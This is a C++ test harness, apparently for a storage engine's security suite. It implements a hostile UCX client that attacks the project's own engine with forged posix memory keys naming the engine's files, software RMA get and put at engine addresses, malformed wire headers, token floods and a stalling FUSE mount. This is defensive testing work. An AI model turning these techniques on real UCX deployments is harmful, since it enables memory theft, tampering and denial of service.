// raw_ucx_attack_peer: a hostile client written from plain UCX calls, for
// raw_ucx_attack_test.cc. It does not use the project's transport (no
// Context, Worker or Endpoint): it makes its own ucp context with whatever
// features and settings an attacker would choose (RMA included), connects to
// a ros2-engine target's worker, speaks the data-plane handshake itself, and
// then sends what the project's client never would: UCX's own software put
// and get, memory keys that name the engine's files, rendezvous over shared
// memory, malformed headers, segment references to other kinds of file. The
// messages' well-formed parts are encoded with the wire codec (a pure byte
// format); everything the attack is about is built by hand.
//
// Usage: raw_ucx_attack_peer <attack> key=value ...
//   keys: address (hex address blob of the target), kind (shm|tcp), cap (hex
//   capability of the attacker's own container), pool, container (uuids),
//   target (engine-local index), engine_pid, engine_addr (hex address in the
//   engine), engine_fd (a descriptor number in the engine), len, timeout_ms.
// Prints "RESULT <name> <code> <text>" lines (code: the Status code number, 0
// for OK and for plain values) and exits 0 when the attack ran.
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include <fmt/format.h>
#include <ucp/api/ucp.h>

#define FUSE_USE_VERSION 35
#include <fuse3/fuse.h>

#include "attack_peer_args.h"
#include "common/uuid.h"
#include "object/obj_rpc.h"
#include "testing/subprocess.h"
#include "testing/temp_dir.h"
#include "transport/cma.h"
#include "transport/connection_auth.h"
#include "transport/wire.h"

using namespace ros2;
namespace wire = ros2::transport::wire;

namespace {

using namespace ros2::testing::attack_peer;

constexpr uint16_t kAmId = 0x52;  // the data plane's one active-message id

// The attacker's UCX: its own context (AM and RMA), one worker, one endpoint
// to the engine, and the replies its AM handler collected.
struct RawClient {
  ucp_context_h ctx = nullptr;
  ucp_worker_h worker = nullptr;
  ucp_ep_h ep = nullptr;
  uint64_t my_conn_id = 0x5eed0001;  // our id of the connection (the hello's request id)
  uint64_t server_conn_id = 0;       // the engine's id, from the hello ack
  std::map<uint64_t, wire::Message> replies;
  std::optional<std::string> bye;  // the reason of the engine's bye, once one came
  std::vector<std::vector<uint8_t>> reply_bytes;
  bool ep_failed = false;
  bool shm = true;
  std::array<uint8_t, wire::kNonceSize> challenge{};  // the hello ack's
  bool integrity_asked = false;
  transport::cma::Token token_copy{};  // the engine reads the token back from here
  std::array<uint8_t, wire::kHelloProofSize> proof{};

  static ucs_status_t OnAm(void* arg, const void* header, size_t header_length, void* data, size_t length,
                           const ucp_am_recv_param_t* /*param*/) {
    auto* self = static_cast<RawClient*>(arg);
    const auto* p = static_cast<const uint8_t*>(header_length > 0 ? header : data);
    const size_t n = header_length > 0 ? header_length : length;
    self->reply_bytes.emplace_back(p, p + n);
    wire::Message m;
    if (!wire::Decode(self->reply_bytes.back(), m).ok()) return UCS_OK;
    if (m.kind == wire::Kind::kHelloAck) {
      self->server_conn_id = m.request_id;
      if (m.payload.size() == wire::kHelloAckSize) {
        self->integrity_asked = (m.payload[0] & wire::kHelloAckIntegrity) != 0;
        std::memcpy(self->challenge.data(), m.payload.data() + 1, wire::kNonceSize);
      }
    }
    if (m.kind == wire::Kind::kReply) self->replies[m.request_id] = m;
    if (m.kind == wire::Kind::kBye) self->bye = std::string(m.payload.begin(), m.payload.end());
    if (m.kind == wire::Kind::kBatch) {
      std::vector<wire::Message> entries(wire::kMaxBatchMessages);
      std::vector<std::span<const uint8_t>> bytes(wire::kMaxBatchMessages);
      auto count = wire::DecodeBatch(m, entries, bytes);
      for (size_t i = 0; count.ok() && i < *count; ++i) self->replies[entries[i].request_id] = entries[i];
    }
    return UCS_OK;
  }
  static void OnEpError(void* arg, ucp_ep_h /*ep*/, ucs_status_t /*status*/) {
    static_cast<RawClient*>(arg)->ep_failed = true;
  }

  Status Init(bool over_shm) {
    shm = over_shm;
    // What an attacker sets for itself: error handling on the shared-memory
    // transports (so its endpoint keeps them in error mode PEER).
    setenv("UCX_POSIX_ERROR_HANDLING", "y", 1);
    setenv("UCX_SYSV_ERROR_HANDLING", "y", 1);
    ucp_config_t* config = nullptr;
    if (ucp_config_read(nullptr, nullptr, &config) != UCS_OK) return Status::Internal("ucp_config_read");
    ucp_config_modify(config, "TLS", shm ? "posix,sysv,self" : "tcp,self");
    ucp_config_modify(config, "NET_DEVICES", "lo");
    // Memory UCX allocates for us comes from posix segments (procfs keys),
    // or SysV ones with alloc=sysv.
    if (shm)
      ucp_config_modify(config, "ALLOC_PRIO", Arg("alloc") == "sysv" ? "md:sysv,mmap,heap" : "md:posix,mmap,heap");
    ucp_params_t params{};
    params.field_mask = UCP_PARAM_FIELD_FEATURES;
    params.features = UCP_FEATURE_AM | UCP_FEATURE_RMA;
    ucs_status_t st = ucp_init(&params, config, &ctx);
    ucp_config_release(config);
    if (st != UCS_OK) return Status::Internal(fmt::format("ucp_init: {}", ucs_status_string(st)));
    ucp_worker_params_t wp{};
    wp.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE;
    wp.thread_mode = UCS_THREAD_MODE_SINGLE;
    if ((st = ucp_worker_create(ctx, &wp, &worker)) != UCS_OK)
      return Status::Internal(fmt::format("ucp_worker_create: {}", ucs_status_string(st)));
    ucp_am_handler_param_t hp{};
    hp.field_mask = UCP_AM_HANDLER_PARAM_FIELD_ID | UCP_AM_HANDLER_PARAM_FIELD_CB | UCP_AM_HANDLER_PARAM_FIELD_ARG;
    hp.id = kAmId;
    hp.cb = OnAm;
    hp.arg = this;
    if ((st = ucp_worker_set_am_recv_handler(worker, &hp)) != UCS_OK)
      return Status::Internal(fmt::format("set_am_recv_handler: {}", ucs_status_string(st)));
    return Status::Ok();
  }

  // Connects to the engine's worker and runs the hello, with a cma proof of
  // our pid when `prove` (a token from the engine's listener and the address
  // of a copy of it in our memory, docs/transport.md).
  Status Connect(const std::vector<uint8_t>& target_blob, bool prove) {
    auto target = wire::DecodeAddress(target_blob);
    if (!target.ok()) return target.status();
    ucp_ep_params_t ep{};
    ep.field_mask =
        UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE | UCP_EP_PARAM_FIELD_ERR_HANDLER;
    ep.address = reinterpret_cast<const ucp_address_t*>(target->ucx_address.data());
    ep.err_mode = UCP_ERR_HANDLING_MODE_PEER;
    ep.err_handler.cb = OnEpError;
    ep.err_handler.arg = this;
    ucs_status_t st = ucp_ep_create(worker, &ep, &this->ep);
    if (st != UCS_OK) return Status::Internal(fmt::format("ucp_ep_create: {}", ucs_status_string(st)));
    // Our own address blob, so the engine can connect back.
    ucp_address_t* addr = nullptr;
    size_t addr_len = 0;
    if ((st = ucp_worker_get_address(worker, &addr, &addr_len)) != UCS_OK)
      return Status::Internal("ucp_worker_get_address");
    wire::WorkerAddress me;
    me.boot_id = wire::LocalHostId();  // the host identity our own workers use
    me.pid = getpid();
    me.ucx_address = std::span<const uint8_t>(reinterpret_cast<const uint8_t*>(addr), addr_len);
    std::vector<uint8_t> blob(wire::EncodedAddressSize(me));
    auto enc = wire::EncodeAddress(me, blob);
    ucp_worker_release_address(worker, addr);
    if (!enc.ok()) return enc.status();
    wire::Message hello;
    hello.kind = wire::Kind::kHello;
    hello.request_id = my_conn_id;
    hello.payload = blob;
    if (prove) {
      auto token = transport::cma::RequestToken(target->pid, std::chrono::milliseconds(2000));
      if (!token.ok()) return token.status();
      token_copy = *token;
      const auto where = reinterpret_cast<uint64_t>(token_copy.data());
      std::memcpy(proof.data(), token_copy.data(), token_copy.size());
      std::memcpy(proof.data() + token_copy.size(), &where, sizeof(where));
      hello.capability = proof;
    }
    ROS2_RETURN_IF_ERROR(SendEncoded(hello));
    if (!ProgressUntil([&] { return server_conn_id != 0; }, 10000))
      return Status::TimedOut("no hello ack from the engine");
    return Status::Ok();
  }

  // Proves the session `session` (args session, session_key) on the
  // connection, as a client must before its capabilities count there
  // (docs/security.md, "Sessions on the data plane"); without integrity
  // tags, so only where the engine does not ask for them (shared memory).
  Status AuthenticateSession() {
    if (Arg("session").empty()) return Status::Ok();
    if (integrity_asked) return Status::NotSupported("this attacker does not seal messages (integrity asked)");
    return Authenticate(SessionKeyArg(), /*flags=*/0, 0xA0);
  }
  transport::SessionKey SessionKeyArg() const { return KeyFromHex(Arg("session_key")); }
  static transport::SessionKey KeyFromHex(const std::string& text) {
    transport::SessionKey key{};
    const auto hex = Unhex(text);
    std::copy_n(hex.begin(), std::min(hex.size(), key.size()), key.begin());
    return key;
  }
  // One authenticate request (opcode 0xF000) for session `session` with
  // `flags`, its proof made under `key`; the engine's answer.
  Status Authenticate(const transport::SessionKey& key, uint8_t flags, uint64_t request_id) {
    return AuthenticateAs(Arg("session"), key, flags, request_id);
  }
  // The payload of a valid proof of `session_uuid` under `key`, followed by
  // `extra` bytes of 0x5A.
  std::vector<uint8_t> ProofPayload(const std::string& session_uuid, const transport::SessionKey& key, uint8_t flags,
                                    size_t extra = 0) const {
    const transport::SessionId session = Uuid::Parse(session_uuid)->bytes();
    std::vector<uint8_t> payload(transport::kAuthPayloadSize + extra, 0x5A);
    std::memcpy(payload.data(), session.data(), session.size());
    payload[transport::kSessionIdSize] = flags;
    const auto proof = transport::DeriveConnectionSecret("ros2 session auth", key, challenge, server_conn_id,
                                                         my_conn_id, session, flags);
    std::memcpy(payload.data() + transport::kSessionIdSize + 1, proof.data(), proof.size());
    return payload;
  }
  Status AuthenticateAs(const std::string& session_uuid, const transport::SessionKey& key, uint8_t flags,
                        uint64_t request_id) {
    return SendAuthenticate(ProofPayload(session_uuid, key, flags), request_id);
  }
  // An authenticate request (opcode 0xF000) carrying `payload` as it is.
  Status SendAuthenticate(std::span<const uint8_t> payload, uint64_t request_id) {
    wire::Message m;
    m.kind = wire::Kind::kRequest;
    m.opcode = wire::kAuthenticateOpcode;
    m.request_id = request_id;
    m.connection_id = server_conn_id;
    m.payload = payload;
    ROS2_RETURN_IF_ERROR(SendEncoded(m));
    return AwaitReply(request_id);
  }

  template <typename Pred>
  bool ProgressUntil(Pred done, uint64_t ms) {
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(ms);
    while (!done()) {
      if (std::chrono::steady_clock::now() > deadline) return false;
      ucp_worker_progress(worker);
    }
    return true;
  }

  // Sends `bytes` as one active message (eager unless `rndv`; with `data`
  // the bytes are the AM header and `data` rides as AM data).
  Status Send(std::span<const uint8_t> bytes, std::span<const std::byte> data = {}, bool rndv = false,
              ucp_mem_h memh = nullptr) {
    ucp_request_param_t p{};
    p.op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS;
    p.flags = (rndv ? UCP_AM_SEND_FLAG_RNDV : UCP_AM_SEND_FLAG_EAGER) | UCP_AM_SEND_FLAG_REPLY;
    if (memh != nullptr) {
      p.op_attr_mask |= UCP_OP_ATTR_FIELD_MEMH;
      p.memh = memh;
    }
    ucs_status_ptr_t req = data.empty()
                               ? ucp_am_send_nbx(ep, kAmId, nullptr, 0, bytes.data(), bytes.size(), &p)
                               : ucp_am_send_nbx(ep, kAmId, bytes.data(), bytes.size(), data.data(), data.size(), &p);
    if (UCS_PTR_IS_ERR(req)) return Status::IOError(fmt::format("am send: {}", ucs_status_string(UCS_PTR_STATUS(req))));
    if (UCS_PTR_IS_PTR(req)) {
      // Rendezvous completes when the receiver took (or declined) the data.
      ProgressUntil([&] { return ucp_request_check_status(req) != UCS_INPROGRESS; }, NumArg("timeout_ms", 5000));
      ucp_request_free(req);
    }
    return Status::Ok();
  }
  Status SendEncoded(const wire::Message& m, std::span<const std::byte> data = {}, bool rndv = false,
                     ucp_mem_h memh = nullptr) {
    std::vector<uint8_t> bytes(wire::EncodedSize(m));
    auto n = wire::Encode(m, bytes);
    if (!n.ok()) return n.status();
    return Send(bytes, data, rndv, memh);
  }
  // The engine's answer to request `id`: its status, or TimedOut when none came.
  Status AwaitReply(uint64_t id) {
    if (!ProgressUntil([&] { return replies.count(id) != 0 || ep_failed; }, NumArg("timeout_ms", 5000)))
      return Status::TimedOut(fmt::format("no reply to request {:#x}", id));
    if (replies.count(id) == 0) return Status::Disconnected("the engine closed the endpoint");
    const wire::Message& r = replies[id];
    return r.status_code == 0 ? Status::Ok() : Status::FromCode(r.status_code, std::string(r.status_message));
  }

  ~RawClient() {
    if (ep != nullptr) {
      ucp_request_param_t p{};
      p.op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS;
      p.flags = UCP_EP_CLOSE_FLAG_FORCE;
      ucs_status_ptr_t r = ucp_ep_close_nbx(ep, &p);
      if (UCS_PTR_IS_PTR(r)) {
        ProgressUntil([&] { return ucp_request_check_status(r) != UCS_INPROGRESS; }, 2000);
        ucp_request_free(r);
      }
    }
    if (worker != nullptr) ucp_worker_destroy(worker);
    if (ctx != nullptr) ucp_cleanup(ctx);
  }
};

// An update of `len` bytes into the attacker's own container; its bulk-out
// descriptor is filled in by the caller.
wire::Message UpdateMessage(const RawClient& c, uint64_t request_id, uint64_t len, std::vector<uint8_t>& payload,
                            const std::vector<uint8_t>& cap) {
  obj::UpdateRequest req;
  req.header.pool = *Uuid::Parse(Arg("pool"));
  req.header.container = *Uuid::Parse(Arg("container"));
  req.header.target = static_cast<uint32_t>(NumArg("target", 0));
  req.header.map_version = NumArg("map_version", 0);  // the current map: the attack gets past the version check
  req.oid = ObjectId::Make(ObjectType::kKeyValue, ObjectClass::kS1, 0, 77);
  req.dkey = "d";
  req.akey = "stolen";
  req.type = obj::ValueType::kArray;
  req.record_size = 1;
  req.length = len;
  payload = obj::Encode(req);
  wire::Message m;
  m.kind = wire::Kind::kRequest;
  m.opcode = static_cast<uint16_t>(obj::Opcode::kUpdate);
  m.request_id = request_id;
  m.connection_id = c.server_conn_id;
  m.capability = cap;
  m.payload = payload;
  m.bulk_count = 1;
  m.bulk[0].direction = wire::BulkDirection::kOut;
  m.bulk[0].length = len;
  return m;
}

// A posix rkey of memory UCX allocated for us, with the process id and the
// descriptor number in its segment id replaced by the engine's: the key, if
// unpacked, names the engine's own open file.
std::optional<std::vector<uint8_t>> ForgePosixKey(ucp_context_h ctx, int32_t pid, int32_t fd, uint64_t* base) {
  ucp_mem_map_params_t mp{};
  mp.field_mask = UCP_MEM_MAP_PARAM_FIELD_LENGTH | UCP_MEM_MAP_PARAM_FIELD_FLAGS;
  mp.length = 1 << 20;
  mp.flags = UCP_MEM_MAP_ALLOCATE;
  ucp_mem_h memh = nullptr;
  if (ucp_mem_map(ctx, &mp, &memh) != UCS_OK) return std::nullopt;
  void* packed = nullptr;
  size_t size = 0;
  if (ucp_rkey_pack(ctx, memh, &packed, &size) != UCS_OK) return std::nullopt;
  std::vector<uint8_t> key(static_cast<uint8_t*>(packed), static_cast<uint8_t*>(packed) + size);
  ucp_rkey_buffer_release(packed);
  ucp_mem_attr_t attr{};
  attr.field_mask = UCP_MEM_ATTR_FIELD_ADDRESS;
  ucp_mem_query(memh, &attr);
  *base = reinterpret_cast<uint64_t>(attr.address);  // where the key's range starts
  ucp_mem_unmap(ctx, memh);
  // posix procfs segment id: bits 0-29 pid, 30-59 fd, 63 the procfs flag.
  const uint64_t me = static_cast<uint64_t>(getpid());
  bool forged = false;
  for (size_t i = 0; i + 8 <= key.size(); ++i) {
    uint64_t v = 0;
    std::memcpy(&v, key.data() + i, 8);
    if ((v & ((1ull << 30) - 1)) == me && (v >> 63) == 1) {
      v = (v & ~((1ull << 60) - 1)) | static_cast<uint64_t>(pid) | (static_cast<uint64_t>(fd) << 30);
      std::memcpy(key.data() + i, &v, 8);
      forged = true;
    }
  }
  // A SysV key names a segment id: it is sent as UCX packed it (naming our
  // own segment), which the engine must refuse to unpack all the same.
  if (!forged && Arg("alloc") != "sysv") return std::nullopt;
  return key;
}

// A token flood from another user: `procs` processes of uid `uid` each ask
// the engine's cma listener for `per_proc` tokens. Prints how many were
// issued in all.
int TokenFloodFromUser() {
  auto target = wire::DecodeAddress(Unhex(Arg("address")));
  if (!target.ok()) return Report("address", target.status()), 1;
  const auto uid = static_cast<uid_t>(NumArg("uid", 65534));
  if (setresgid(uid, uid, uid) != 0 || setresuid(uid, uid, uid) != 0) {
    return Report("setuid", Status::FromErrno(errno, "dropping to the flooding user")), 1;
  }
  const uint64_t procs = NumArg("procs", 8), per_proc = NumArg("per_proc", 64);
  std::vector<testing::ChildProcess> children;
  for (uint64_t i = 0; i < procs; ++i) {
    auto child = testing::ChildProcess::Fork([&] {
      int got = 0;
      for (uint64_t k = 0; k < per_proc; ++k) {
        if (transport::cma::RequestToken(target->pid, std::chrono::milliseconds(2000)).ok()) ++got;
      }
      return got;
    });
    if (child.ok()) children.push_back(std::move(*child));
  }
  uint64_t issued = 0;
  for (auto& child : children) {
    auto got = child.Wait(std::chrono::hours(1));
    if (got.ok() && *got < 128) issued += static_cast<uint64_t>(*got);  // 128 + n: killed by signal n
  }
  Value("tokens_issued", std::to_string(issued));
  return 0;
}

// A file on a FUSE mount of our own whose daemon (a thread of this process)
// answers until `stall` is set and then holds every request until the
// attack is over: what a segment reference to it would cost a server that
// opens or inspects the file through the file system.
struct StallingFuse {
  static std::atomic<bool> stall;
  static std::atomic<bool> released;
  std::unique_ptr<testing::TempDir> dir;
  std::string mountpoint;
  struct fuse* fs = nullptr;
  std::thread loop;

  static void Hold() {
    while (stall.load() && !released.load()) std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  static int GetAttr(const char* path, struct stat* st, fuse_file_info*) {
    Hold();
    std::memset(st, 0, sizeof(*st));
    if (std::strcmp(path, "/") == 0) {
      st->st_mode = S_IFDIR | 0755;
      st->st_nlink = 2;
      return 0;
    }
    if (std::strcmp(path, "/f") != 0) return -ENOENT;
    st->st_mode = S_IFREG | 0644;
    st->st_nlink = 1;
    st->st_size = 1 << 20;
    return 0;
  }
  static int Open(const char*, fuse_file_info*) {
    Hold();
    return 0;
  }
  static int Read(const char*, char* buf, size_t size, off_t, fuse_file_info*) {
    Hold();
    std::memset(buf, 0, size);
    return static_cast<int>(size);
  }

  Status Mount() {
    auto made = testing::TempDir::Create("/tmp", "ros2-stall-fuse-");
    if (!made.ok()) return made.status();
    dir = std::make_unique<testing::TempDir>(std::move(*made));
    mountpoint = dir->path();
    static fuse_operations ops{};
    ops.getattr = GetAttr;
    ops.open = Open;
    ops.read = Read;
    // allow_other: the server may run as another user (the FUSE mount would
    // refuse it every access otherwise, and hide what a stall costs).
    char arg0[] = "stall-fuse", arg1[] = "-o", arg2[] = "allow_other";
    char* argv[] = {arg0, arg1, arg2, nullptr};
    fuse_args args = FUSE_ARGS_INIT(3, argv);
    fs = fuse_new(&args, &ops, sizeof(ops), nullptr);
    if (fs == nullptr) return Status::Internal("fuse_new");
    if (fuse_mount(fs, mountpoint.c_str()) != 0) return Status::Internal("fuse_mount " + mountpoint);
    loop = std::thread([this] { fuse_loop(fs); });
    return Status::Ok();
  }
  ~StallingFuse() {
    released = true;
    if (fs != nullptr) {
      fuse_exit(fs);
      fuse_unmount(fs);
      if (loop.joinable()) loop.join();
      fuse_destroy(fs);
    }
    dir.reset();  // unmounted: removes the mount point
  }
};
std::atomic<bool> StallingFuse::stall{false};
std::atomic<bool> StallingFuse::released{false};

// Authenticate requests whose payload is longer or shorter than a proof, or
// longer than any message, then one proof more than a connection may hold:
// the attacker's own session and the sessions of `sessions` (comma-separated
// uuids, their keys in `session_keys`). Last, the attacker's own capability
// on the connection it kept.
int SessionLimits(RawClient& c, const std::vector<uint8_t>& cap) {
  if (Status st = c.AuthenticateSession(); !st.ok()) return Report("authenticate", st), 1;
  Value("connected", "1");
  Report("oversize_payload",
         c.SendAuthenticate(c.ProofPayload(Arg("session"), c.SessionKeyArg(), 0, /*extra=*/1000), 0xC0));
  Report("short_payload",
         c.SendAuthenticate(std::span<const uint8_t>(c.ProofPayload(Arg("session"), c.SessionKeyArg(), 0)).first(16),
                            0xC1));
  {
    // A payload longer than any message may carry: the codec will not encode
    // it, so a valid proof's header gets the longer length and the bytes.
    const auto proof = c.ProofPayload(Arg("session"), c.SessionKeyArg(), 0);
    wire::Message m;
    m.kind = wire::Kind::kRequest;
    m.opcode = wire::kAuthenticateOpcode;
    m.request_id = 0xC2;
    m.connection_id = c.server_conn_id;
    m.payload = proof;
    std::vector<uint8_t> bytes(wire::EncodedSize(m));
    if (auto n = wire::Encode(m, bytes); !n.ok()) return Report("encode", n.status()), 1;
    const auto huge = static_cast<uint32_t>(proof.size() + wire::kMaxPayload);
    std::memcpy(bytes.data() + 24, &huge, sizeof(huge));  // payload_len (docs/wire-format.md)
    bytes.resize(bytes.size() + wire::kMaxPayload, 0x5A);
    if (Status st = c.Send(bytes); !st.ok()) return Report("send", st), 1;
    Report("huge_payload", c.AwaitReply(0xC2));
  }
  const auto uuids = Split(Arg("sessions"));
  const auto keys = Split(Arg("session_keys"));
  uint64_t id = 0xD0;
  for (size_t i = 0; i < uuids.size() && i < keys.size(); ++i) {
    Report(fmt::format("session_{}", i + 2), c.AuthenticateAs(uuids[i], RawClient::KeyFromHex(keys[i]), 0, id++));
  }
  std::vector<uint8_t> payload;
  wire::Message m = UpdateMessage(c, 0xE0, 16, payload, cap);
  m.bulk[0].transfer = wire::BulkTransfer::kInline;
  const std::vector<uint8_t> data(16, 1);
  m.inline_data = data;
  if (Status st = c.SendEncoded(m); !st.ok()) return Report("send", st), 1;
  Report("update_after", c.AwaitReply(0xE0));
  return 0;
}

int Run(const std::string& attack) {
  if (attack == "token-flood-user") return TokenFloodFromUser();
  const bool shm = Arg("kind", "shm") == "shm";
  const std::vector<uint8_t> cap = Unhex(Arg("cap"));
  RawClient c;
  if (Status st = c.Init(shm); !st.ok()) return Report("init", st), 1;
  if (Status st = c.Connect(Unhex(Arg("address")), Arg("prove") == "1"); !st.ok()) return Report("connect", st), 1;
  if (attack == "session-limits") return SessionLimits(c, cap);
  if (attack == "forged-auth") {
    Value("connected", "1");
    // Authenticate requests a client without the session's key, or one
    // that leaves out the integrity tags the engine asks for, can make.
    transport::SessionKey wrong = c.SessionKeyArg();
    wrong[0] ^= 1;
    Report("wrong_key", c.Authenticate(wrong, 0, 0xB0));
    Report("unknown_flags", c.Authenticate(c.SessionKeyArg(), 0x80, 0xB1));
    if (c.integrity_asked) Report("no_integrity", c.Authenticate(c.SessionKeyArg(), 0, 0xB2));
    // With no proven session, the attacker's own valid capability does not count.
    std::vector<uint8_t> payload;
    wire::Message m = UpdateMessage(c, 0xB3, 16, payload, cap);
    const std::vector<uint8_t> data(16, 1);
    m.inline_data = data;
    if (Status st = c.SendEncoded(m); !st.ok()) return Report("send", st), 1;
    Report("unproven_update", c.AwaitReply(0xB3));
    return 0;
  }
  if (Status st = c.AuthenticateSession(); !st.ok()) Report("authenticate", st);
  Value("connected", "1");
  const uint64_t len = NumArg("len", 65536);

  if (attack == "sw-rma") {
    // UCX's own software get and put, aimed at an address in the engine.
    std::vector<uint8_t> local(len, 0xAB);
    ucp_mem_map_params_t mp{};
    mp.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH;
    mp.address = local.data();
    mp.length = local.size();
    ucp_mem_h memh = nullptr;
    void* packed = nullptr;
    size_t packed_size = 0;
    ucp_rkey_h rkey = nullptr;
    if (ucp_mem_map(c.ctx, &mp, &memh) != UCS_OK || ucp_rkey_pack(c.ctx, memh, &packed, &packed_size) != UCS_OK ||
        ucp_ep_rkey_unpack(c.ep, packed, &rkey) != UCS_OK) {
      return Report("rkey", Status::Internal("could not make a key for the endpoint")), 1;
    }
    const uint64_t target = std::stoull(Arg("engine_addr", "0"), nullptr, 16);
    std::vector<uint8_t> got(len, 0);
    ucp_request_param_t p{};
    ucs_status_ptr_t r = ucp_get_nbx(c.ep, got.data(), got.size(), target, rkey, &p);
    Status get = Status::Ok();
    if (UCS_PTR_IS_ERR(r)) {
      get = Status::IOError(fmt::format("get refused by UCX: {}", ucs_status_string(UCS_PTR_STATUS(r))));
    } else if (UCS_PTR_IS_PTR(r)) {
      if (!c.ProgressUntil([&] { return ucp_request_check_status(r) != UCS_INPROGRESS; }, 3000)) {
        get = Status::TimedOut("the engine never answered the get");
        ucp_request_cancel(c.worker, r);
      } else if (ucp_request_check_status(r) != UCS_OK) {
        get = Status::IOError(ucs_status_string(ucp_request_check_status(r)));
      }
      ucp_request_free(r);
    }
    Report("get", get);
    if (get.ok())
      Value("leaked_nonzero", std::to_string(std::count_if(got.begin(), got.end(), [](uint8_t b) { return b != 0; })));
    // A put of 0xAB bytes: if it lands, the engine's memory there is ours.
    r = ucp_put_nbx(c.ep, local.data(), local.size(), target, rkey, &p);
    // A put UCX refuses to start (no lane can reach the engine's memory) was
    // never sent: the flush after it proves nothing.
    Status put = Status::Ok();
    if (UCS_PTR_IS_ERR(r)) {
      put = Status::IOError(fmt::format("put refused by UCX: {}", ucs_status_string(UCS_PTR_STATUS(r))));
    } else if (UCS_PTR_IS_PTR(r)) {
      c.ProgressUntil([&] { return ucp_request_check_status(r) != UCS_INPROGRESS; }, 1000);
      ucp_request_cancel(c.worker, r);
      ucp_request_free(r);
    }
    ucp_request_param_t fp{};
    r = ucp_ep_flush_nbx(c.ep, &fp);
    Status flushed = Status::Ok();
    if (UCS_PTR_IS_PTR(r)) {
      if (!c.ProgressUntil([&] { return ucp_request_check_status(r) != UCS_INPROGRESS; }, 3000)) {
        flushed = Status::TimedOut("the engine never acknowledged the put");
      } else if (ucp_request_check_status(r) != UCS_OK) {
        // The engine closed the connection rather than take the put.
        flushed = Status::IOError(fmt::format("flush: {}", ucs_status_string(ucp_request_check_status(r))));
      }
      ucp_request_free(r);
    }
    Report("put", put.ok() ? flushed : put);
    ucp_rkey_destroy(rkey);
    ucp_rkey_buffer_release(packed);
    ucp_mem_unmap(c.ctx, memh);
    return 0;
  }
  if (attack == "rma-key") {
    // An update whose bulk-out is "rma" with a key naming the engine's file.
    // Over tcp there is no posix key to forge: any bytes will do, the
    // engine must not unpack them either.
    uint64_t base = 0x10000;
    auto key = shm ? ForgePosixKey(c.ctx, static_cast<int32_t>(NumArg("engine_pid", 0)),
                                   static_cast<int32_t>(NumArg("engine_fd", 3)), &base)
                   : std::optional<std::vector<uint8_t>>(std::vector<uint8_t>(64, 0x11));
    if (!key) return Report("forge", Status::Internal("no posix segment id in a packed key")), 1;
    std::vector<uint8_t> payload;
    wire::Message m = UpdateMessage(c, 0x101, len, payload, cap);
    m.bulk[0].transfer = wire::BulkTransfer::kRma;
    m.bulk[0].remote_addr = base;
    m.bulk[0].rkey = *key;
    if (Status st = c.SendEncoded(m); !st.ok()) return Report("send", st), 1;
    Report("attack", c.AwaitReply(0x101));
    return 0;
  }
  if (attack == "rndv") {
    // Bulk riding a rendezvous from memory UCX allocated for us (posix over
    // shm): receiving it would make the engine unpack our key and map the
    // segment it names.
    ucp_mem_map_params_t mp{};
    mp.field_mask = UCP_MEM_MAP_PARAM_FIELD_LENGTH | UCP_MEM_MAP_PARAM_FIELD_FLAGS;
    mp.length = len;
    mp.flags = UCP_MEM_MAP_ALLOCATE;
    ucp_mem_h memh = nullptr;
    if (ucp_mem_map(c.ctx, &mp, &memh) != UCS_OK) return Report("alloc", Status::Internal("ucp_mem_map")), 1;
    ucp_mem_attr_t attr{};
    attr.field_mask = UCP_MEM_ATTR_FIELD_ADDRESS | UCP_MEM_ATTR_FIELD_LENGTH;
    ucp_mem_query(memh, &attr);
    std::memset(attr.address, 0x5A, len);
    // The inode of the segment behind that memory, for the test to look
    // for in the engine's mappings.
    std::ifstream maps("/proc/self/maps");
    std::string line;
    const auto base = reinterpret_cast<uintptr_t>(attr.address);
    while (std::getline(maps, line)) {
      uintptr_t lo = 0, hi = 0;
      char perms[8], dev[16];
      unsigned long long off = 0, inode = 0;
      if (sscanf(line.c_str(), "%lx-%lx %7s %llx %15s %llu", &lo, &hi, perms, &off, dev, &inode) == 6 && base >= lo &&
          base < hi) {
        Value("segment_inode", std::to_string(inode));
      }
    }
    std::vector<uint8_t> payload;
    wire::Message m = UpdateMessage(c, 0x102, len, payload, cap);
    m.bulk[0].transfer = wire::BulkTransfer::kActiveMessage;
    const std::span<const std::byte> data(static_cast<const std::byte*>(attr.address), len);
    if (Status st = c.SendEncoded(m, data, /*rndv=*/true, memh); !st.ok()) return Report("send", st), 1;
    Report("attack", c.AwaitReply(0x102));
    ucp_mem_unmap(c.ctx, memh);
    return 0;
  }
  if (attack == "malformed") {
    // A request whose header declares a capability longer than the limit,
    // and one whose active-message bulk is shorter than it announces: both
    // must be answered at once with the reason.
    std::vector<uint8_t> payload;
    wire::Message m = UpdateMessage(c, 0x103, 16, payload, cap);
    m.bulk[0].transfer = wire::BulkTransfer::kInline;
    const std::vector<uint8_t> data(16, 1);
    m.inline_data = data;
    std::vector<uint8_t> bytes(wire::EncodedSize(m));
    if (auto n = wire::Encode(m, bytes); !n.ok()) return Report("encode", n.status()), 1;
    std::vector<uint8_t> oversize = bytes;
    const uint16_t cap_len = 5000;
    std::memcpy(oversize.data() + 28, &cap_len, 2);  // the capability length field (docs/wire-format.md)
    const auto t0 = std::chrono::steady_clock::now();
    if (Status st = c.Send(oversize); !st.ok()) return Report("send", st), 1;
    Report("oversize_capability", c.AwaitReply(0x103));
    Value("elapsed_ms",
          std::to_string(
              std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count()));
    // Bulk-out by active message that announces more bytes than come with it.
    wire::Message short_am = UpdateMessage(c, 0x104, 4096, payload, cap);
    short_am.bulk[0].transfer = wire::BulkTransfer::kActiveMessage;
    const std::vector<std::byte> half(2048, std::byte{7});
    if (Status st = c.SendEncoded(short_am, half); !st.ok()) return Report("send", st), 1;
    Report("short_am_bulk", c.AwaitReply(0x104));
